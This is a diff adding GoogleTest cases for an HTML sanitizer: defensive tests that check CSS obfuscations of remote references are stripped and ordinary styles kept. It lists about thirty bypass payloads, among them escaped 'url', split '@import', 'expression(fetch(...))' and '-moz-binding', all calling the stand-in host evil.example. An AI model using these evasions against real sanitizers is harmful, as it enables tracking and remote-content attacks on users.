@@ -4,6 +4,9 @@
 
 #include <gtest/gtest.h>
 
+#include <string>
+#include <vector>
+
 namespace spe::index {
 namespace {
 
@@ -46,6 +49,91 @@ TEST(HtmlSanitize, RemovesRemoteContent) {
 TEST(HtmlSanitize, BrokenHtmlNeverFails) {
   EXPECT_NO_THROW(sanitizeHtml("<<<>>><div <p></b></table>\xff\xfe"));
   EXPECT_NO_THROW(sanitizeHtml(""));
+}
+
+}  // namespace
+}  // namespace spe::index
+
+namespace spe::index {
+namespace {
+
+// Ways to write a remote reference that a browser still reads as one (CSS
+// escapes, comments, case, NUL and line breaks, character references in
+// the attribute), each in a style attribute and in a <style> element: the
+// remote host must be gone from the output every time.
+TEST(HtmlSanitize, CssObfuscationsLoseTheRemoteReference) {
+  const std::vector<std::string> obfuscated = {
+      "background:url(https://evil.example/a.png)",
+      "background:URL(https://evil.example/a.png)",
+      "background:u\\72l(https://evil.example/a.png)",
+      "background:\\75\\72\\6c(https://evil.example/a.png)",
+      "background:\\75 \\72 \\6C (https://evil.example/a.png)",
+      "background:\\000075rl(https://evil.example/a.png)",
+      "background:\\55\\52\\4c(https://evil.example/a.png)",
+      "background:u\\rl(https://evil.example/a.png)",
+      "background:ur/**/l(https://evil.example/a.png)",
+      "background:ur/* x */l(https://evil.example/a.png)",
+      "background:u\\\nrl(https://evil.example/a.png)",
+      "background:u\\72\r\nl(https://evil.example/a.png)",
+      "background:url\t(https://evil.example/a.png)",
+      "background:image-set(\"https://evil.example/a.png\" 1x)",
+      "background:-webkit-image-set(\"https://evil.example/a.png\" 1x)",
+      "background:im\\61ge-set(\"https://evil.example/a.png\" 1x)",
+      "background:src(\"https://evil.example/a.png\")",
+      "@import 'https://evil.example/a.css'",
+      "@\\69mport 'https://evil.example/a.css'",
+      "@\\49MPORT 'https://evil.example/a.css'",
+      "@im/**/port 'https://evil.example/a.css'",
+      "width:expression(fetch('https://evil.example/'))",
+      "width:ex\\70ression(fetch('https://evil.example/'))",
+      "behavior:url(https://evil.example/x.htc)",
+      "beh\\61vior:u\\72l(https://evil.example/x.htc)",
+      "-moz-binding:u\\72l(https://evil.example/x.xml)",
+      "background:\\\\75rl(https://evil.example/a.png)",
+  };
+  for (const auto& css : obfuscated) {
+    SCOPED_TRACE(css);
+    auto attribute = sanitizeHtml("<div style=\"" + css + "\">text</div>");
+    EXPECT_EQ(attribute.html.find("evil.example"), std::string::npos) << attribute.html;
+    EXPECT_NE(attribute.html.find("text"), std::string::npos);
+    EXPECT_EQ(attribute.removed_remote, 1);
+    auto sheet = sanitizeHtml("<style>div { " + css + " }</style><div>text</div>");
+    EXPECT_EQ(sheet.html.find("evil.example"), std::string::npos) << sheet.html;
+    EXPECT_EQ(sheet.removed_remote, 1);
+  }
+  // A NUL byte inside the name, and character references in the attribute
+  // (decoded by the HTML parser before CSS sees them).
+  for (const std::string& html :
+       {std::string("<div style=\"background:u") + '\0' + "rl(https://evil.example/a.png)\">t</div>",
+        std::string("<div style=\"background:&#117;rl(https://evil.example/a.png)\">t</div>"),
+        std::string("<div style=\"background:&#x75;&#x72;&#x6c;(https://evil.example/a.png)\">t</div>"),
+        std::string("<div style=\"background:u&#92;72l(https://evil.example/a.png)\">t</div>")}) {
+    auto s = sanitizeHtml(html);
+    EXPECT_EQ(s.html.find("evil.example"), std::string::npos) << s.html;
+  }
+}
+
+TEST(HtmlSanitize, OrdinaryStylesSurvive) {
+  const std::vector<std::string> ordinary = {
+      "color:#336699",
+      "font-family:Arial, Helvetica, sans-serif; font-size:12px",
+      "margin:0 auto; padding:4px 8px; border:1px solid #ccc",
+      "background-color:rgb(255, 255, 255); line-height:1.4",
+      "font-family:'Segoe UI'; font-weight:bold",
+      "text-decoration:underline; display:inline-block; width:100%",
+  };
+  for (const auto& css : ordinary) {
+    SCOPED_TRACE(css);
+    auto attribute = sanitizeHtml("<p style=\"" + css + "\">text</p>");
+    EXPECT_NE(attribute.html.find(css), std::string::npos) << attribute.html;
+    EXPECT_EQ(attribute.removed_remote, 0);
+    auto sheet = sanitizeHtml("<style>p { " + css + " }</style><p>text</p>");
+    EXPECT_NE(sheet.html.find(css), std::string::npos) << sheet.html;
+    EXPECT_EQ(sheet.removed_remote, 0);
+  }
+  // Comments and media queries in a style sheet are fine as long as nothing is loaded.
+  auto s = sanitizeHtml("<style>/* layout */ @media (max-width: 600px) { td { display:block } }</style>");
+  EXPECT_NE(s.html.find("@media (max-width: 600px)"), std::string::npos) << s.html;
 }
 
 }  // namespace
